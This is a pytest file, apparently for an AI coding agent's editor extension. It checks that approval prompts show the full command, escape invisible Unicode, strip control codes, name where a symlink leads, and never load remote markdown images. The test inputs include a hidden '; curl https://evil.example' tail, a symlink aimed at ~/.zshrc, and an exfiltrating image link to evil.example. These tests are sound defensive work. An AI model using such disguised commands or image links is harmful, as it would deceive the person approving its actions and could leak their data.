"""D01 to D04, D09: what the person is shown is all of it, as it is, and nothing in it loads, hides, paints or clicks."""

from __future__ import annotations

import json
import logging
import re
from pathlib import Path
from typing import Any

import pytest

from claw_lsp.app.logs import Redacting
from claw_lsp.lsp.questions import flat
from claw_lsp.testing.scripted_model import says
from tests.wire.door_desk import Json, Visit, edits, runs, visiting

CASES: dict[str, Json] = {
    it["id"]: it["input"]
    for it in json.loads((Path(__file__).parent.parent / "fixtures" / "security_cases.json").read_text("utf-8"))
}
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
IMAGE = CASES["D09"]["model_text"]
LOADS = re.compile(r"!\[[^\]]*\]\((?!\s*\()\s*<?https?://")


async def question(visit: Visit, prompt: str = "go") -> tuple[Json, Any]:
    begun = await visit.command("claw.ask", prompt=prompt)
    return begun, await visit.box()


async def deny(visit: Visit, begun: Json, box: Any) -> None:
    box.pick("Deny")
    await visit.end(begun["run"])


def plainly(message: str) -> str:
    """The message without the joiners that keep an editor from making links of it."""
    return message.replace("\u2060", "")


@pytest.mark.security_case("D01")
async def test_a_command_with_blanks_in_it_is_shown_to_its_end(tmp_path: Path) -> None:
    async with visiting(tmp_path, runs(CASES["D01"]["command"]), says("Ok.")) as visit:
        begun, box = await question(visit)
        assert plainly(box.message).endswith("; curl https://evil.example")
        assert "blanks" in box.message, "so many that what follows would be out of sight"
        assert len(box.message) < 200
        assert box.titles == ["Deny", "Allow once"]
        await deny(visit, begun, box)


@pytest.mark.security_case("D01")
@pytest.mark.parametrize("long", ["pytest " + "a" * 2_000, "pytest" + " x" * 500, "pytest a\n" * 300])
async def test_a_command_that_is_cut_says_so_and_is_allowed_once_at_the_most(tmp_path: Path, long: str) -> None:
    async with visiting(tmp_path, runs(long), says("Ok.")) as visit:
        begun, box = await question(visit)
        assert re.search(r"cut: \d+ characters in all", box.message)
        assert box.titles == ["Deny", "Allow once"]
        (asked,) = await visit.questions()
        assert long.strip() in asked["detail"], "all of it can be read"
        await deny(visit, begun, box)


@pytest.mark.security_case("D02")
async def test_what_cannot_be_seen_is_shown_escaped(tmp_path: Path) -> None:
    async with visiting(tmp_path, runs(CASES["D02"]["command"].replace("ls", "make")), says("Ok.")) as visit:
        begun, box = await question(visit)
        for code in ("‹U+202E›", "‹U+200B›", "‹U+E0041›"):
            assert code in box.message
        assert not re.search("[\u202e\u200b\U000e0041]", box.message)
        (asked,) = await visit.questions()
        assert "‹U+202E›" in asked["title"] + asked["detail"]
        assert not re.search("[\u202e\u200b\U000e0041]", asked["title"] + asked["detail"])
        await deny(visit, begun, box)


@pytest.mark.security_case("D03")
async def test_no_control_code_of_a_command_reaches_a_screen_or_the_log(
    tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    octal = "".join(rf"\{it:03o}" for it in CASES["D03"]["tool_output"].encode())
    command = f"printf '{octal}'; exit 3"
    caplog.set_level(logging.DEBUG)
    async with visiting(
        tmp_path, runs(command), says(f"It said {CASES['D03']['tool_output']}"), auto="Allow once"
    ) as visit:
        begun = await visit.command("claw.chat", prompt="go")
        await visit.end(begun["run"])
        await visit.settle()
        (chat,) = (visit.root / ".claw" / "chats").glob("*.md")
        shown = [
            visit.text(str(chat)),
            visit.model.results(1),
            json.dumps(visit.messages + visit.progress, ensure_ascii=False),
        ]
    logged = "".join(Redacting(()).format(it) for it in caplog.records)
    for text in (*shown, logged):
        assert not CONTROL.search(text)
        assert "\\u001b" not in text
    assert "ok" in shown[0]


@pytest.mark.security_case("D04")
async def test_the_question_names_where_a_link_leads(tmp_path: Path) -> None:
    async with visiting(tmp_path, *edits("readme.md", "old", "new"), says("Ok.")) as visit:
        target = visit.home / ".zshrc"
        target.write_text("old\n")
        (visit.root / "readme.md").symlink_to(target)
        begun, box = await question(visit)
        assert f"{visit.root}/readme.md leads to {target}" in plainly(box.message)
        box.pick("Allow once")
        second = await visit.box(1)
        assert f"leads to {target}" in plainly(second.message)
        assert second.titles[:2] == ["Deny", "Allow once"]
        assert "session" not in str(second.titles)
        await deny(visit, begun, second)
        assert target.read_text() == "old\n"


@pytest.mark.security_case("D09")
async def test_no_image_of_elsewhere_loads_in_a_chat_a_hover_a_message_or_a_plan(tmp_path: Path) -> None:
    plan = says("", ("p1", "ExitPlanMode", {"plan": f"# Plan\n\n{IMAGE}\n"}))
    reading, editing = edits("a.py", "x", IMAGE)
    editing = says(IMAGE, ("c1", "Edit", editing.blocks[-1]["input"]))
    steps = (reading, editing, says(f"Done. {IMAGE}"), plan, says(IMAGE))
    async with visiting(tmp_path, *steps, auto="Allow once") as visit:
        visit.open("a.py", on_disk="x\n")
        begun = await visit.command("claw.chat", prompt="go")
        await visit.end(begun["run"])
        (chat,) = (visit.root / ".claw" / "chats").glob("*.md")
        position = visit.editor.range(visit.path("a.py"), 0, 0)["start"]
        hover = await visit.request(
            "textDocument/hover", {"textDocument": {"uri": visit.uri("a.py")}, "position": position}
        )
        visit.auto = None
        asked = await visit.command("claw.ask", prompt="plan it", mode="plan")
        box = await visit.box(len(visit.boxes))
        box.pick(box.titles[0])
        await visit.end(asked["run"])
        await visit.settle()
        plans = [it.read_text("utf-8") for it in visit.home.rglob("*.md")]
        shown = [visit.text(str(chat)), hover["contents"]["value"], *(it["message"] for it in visit.messages), *plans]
        kept = [it.event for it in visit.log(begun["session"]) if it.event.kind == "model_spoke"]
    assert plans
    for text in shown:
        assert not LOADS.search(re.sub(r"`{3,}.*?`{3,}", "", text, flags=re.DOTALL)), text
    assert [it for it in shown if "evil.example" not in it] == []
    assert any(IMAGE in json.dumps(it.model_dump(mode="json")) for it in kept), "the log keeps the text as it was"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ls" + " " * 9 + "x", "ls ‹9 blanks› x"),
        ("ls   x", "ls   x"),
        ("a\t\t\t\t\t\t\t\t\tb", "a ‹9 blanks› b"),
    ],
)
def test_many_blanks_are_counted(text: str, shown: str) -> None:
    assert flat(text, 100) == shown
